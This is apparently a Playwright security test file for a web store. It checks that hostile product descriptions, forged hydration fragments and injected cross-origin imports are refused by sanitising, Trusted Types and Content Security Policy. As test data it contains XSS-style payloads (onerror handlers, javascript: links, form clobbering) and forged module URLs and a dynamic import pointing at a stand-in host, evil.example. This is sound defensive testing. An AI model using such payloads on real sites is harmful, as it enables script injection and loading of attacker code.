import type { Page } from '@playwright/test'
import { expect, test } from '../../fixtures/test.ts'
import { MUG } from '../../test-data/known-products.ts'

// Functions that a tab has been given stay with it.
test.use({ newTab: true })

const EVIL = 'https://evil.example'
/** The handlers in it are refused when it is compared with what the server rendered. */
const REFUSED_MARKUP = /markup was refused|TrustedHTML|inline event handler/
const BUILD = '0123456789ab'
const HYDRATION = {
  fragment: 'cart/mini-cart',
  build: BUILD,
  instance: 'cart-mini-cart',
  entry: `${EVIL}/entry.js`,
  modules: [`${EVIL}/module.js`],
  messages: `${EVIL}/words.js`,
  css: [],
  hydrate: 'load',
  pure: true,
  params: {},
  props: {},
}
const forgedFragment = (mark = '') =>
  `<div data-fragment="cart/mini-cart" data-build="${BUILD}" data-state="fresh"><div data-root></div><script type="application/json" data-hydrate${mark}>${JSON.stringify(HYDRATION)}</script></div>`

test('a hostile description is rendered as inert text, and refused as markup', async ({ stack, store, watch }) => {
  const description = `<p>Fired twice.</p>${forgedFragment()}<img/onerror="document.title='attacked'" src=x><form name="querySelector" action="${EVIL}"><a href="javascript:alert(1)">Care</a></form>`
  const { product } = await stack.platform.elevated<{ product: { slug: string } }>('POST', '/stores/v1/products', {
    product: { name: 'Hostile vase', slug: 'hostile-vase', priceData: { price: 12 }, description },
  })
  const evil = foreignRequests(store.page)
  await store.open(`/products/${product.slug}`)
  await store.whenAlive('catalog/product')
  await expect(store.fragment('catalog/product')).toHaveAttribute('data-state', 'fresh')
  await expect(store.page.getByText('Fired twice.')).toBeVisible()
  await expect(store.page.getByText('Care', { exact: true })).not.toHaveAttribute('href')
  await expect(store.page.locator('.catalog-prose').locator('[data-fragment], script, form, img')).toHaveCount(0)
  expect(evil).toEqual([])

  watch.allow(REFUSED_MARKUP)
  await expectRefused(store.page, description)
})

test('content that looks like a fragment is not hydrated and loads nothing', async ({ store }) => {
  const evil = foreignRequests(store.page)
  await changeDocument(store.page, (html) =>
    html.replace('<main', `${forgedFragment()}${forgedFragment(' nonce=""')}${forgedFragment(' nonce')}<main`),
  )
  await store.open(MUG.path)
  await store.whenAlive('catalog/product')
  await store.whenAlive('cart/add-to-cart')
  expect(await store.page.locator(`[data-build="${BUILD}"]:not([data-hydrated])`).count()).toBe(3)
  expect(evil).toEqual([])
})

test('even hydration data with the nonce of the document loads only files of its build', async ({ store, watch }) => {
  const said: string[] = []
  store.page.on('console', (message) => said.push(message.text()))
  watch.allow(/names files that are not of its build/, /Content Security Policy/, /modulepreload|ERR_NAME|net::ERR|evil\.example/)
  await store.page.route(`${EVIL}/**`, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: `document.title = 'attacked'; export default {}`,
    }),
  )
  await changeDocument(store.page, (html) =>
    html.replace('<main', `${forgedFragment(` nonce="${/ nonce="([^"]+)"/.exec(html)?.[1]}"`)}<main`),
  )
  await store.open(MUG.path)
  await store.whenAlive('cart/add-to-cart')
  await expect(store.page).not.toHaveTitle('attacked')
  expect(said.filter((text) => text.includes('names files that are not of its build'))).toHaveLength(1)
})

test('no script of the page, and none that came into it, can import a script of another origin', async ({ store, watch }) => {
  watch.allow(/Content Security Policy/, /evil\.example/, /Failed to fetch dynamically imported module/)
  await store.page.route(`${EVIL}/**`, (route) =>
    route.fulfill({ contentType: 'text/javascript', headers: { 'access-control-allow-origin': '*' }, body: 'export default {}' }),
  )
  await changeDocument(store.page, (html) =>
    html.replace(
      '<main',
      `<script nonce="${/ nonce="([^"]+)"/.exec(html)?.[1]}">import('${EVIL}/x.js').then(() => (document.title = 'attacked'), () => (document.title = 'refused'))</script><main`,
    ),
  )
  await store.open(MUG.path)
  await expect(store.page).toHaveTitle('refused')
})

/** The function that the test exposes to the page. */
declare function noteViolation(directive: string): void

test('Trusted Types block unknown markup from strings on every page of a tour', async ({ store, before, watch }) => {
  const violated: string[] = []
  await store.page.exposeFunction('noteViolation', (directive: string) => violated.push(directive))
  await store.page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective }) => noteViolation(violatedDirective))
  })
  for (const path of ['/', MUG.collectionPath, '/search?q=mug', MUG.path, '/cart', '/auth/callback']) {
    const response = await store.open(path)
    expect(response.headers()['content-security-policy'], path).toContain("require-trusted-types-for 'script'; trusted-types default,")
    await store.allAlive()
  }
  await before.fillCart(MUG)
  const orderId = await before.placeOrder()
  await store.open(`/thank-you?orderId=${orderId}`)
  await store.allAlive()
  expect(violated).toEqual([])

  watch.allow(REFUSED_MARKUP)
  await expectRefused(store.page, '<img src=x>')
})

async function expectRefused(page: Page, markup: string): Promise<void> {
  const attempt = page.evaluate((html) => void (document.body.innerHTML = html), markup)
  await expect(attempt, markup).rejects.toThrow(/TypeError/)
}

function foreignRequests(page: Page): string[] {
  const found: string[] = []
  page.on('request', (request) => {
    if (request.url().startsWith(EVIL)) found.push(request.url())
  })
  return found
}

/** Changes documents on their way to the browser, as content would that came past every guard. */
async function changeDocument(page: Page, change: (html: string) => string): Promise<void> {
  await page.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback()
    const response = await route.fetch()
    await route.fulfill({ response, body: change(await response.text()) })
  })
}
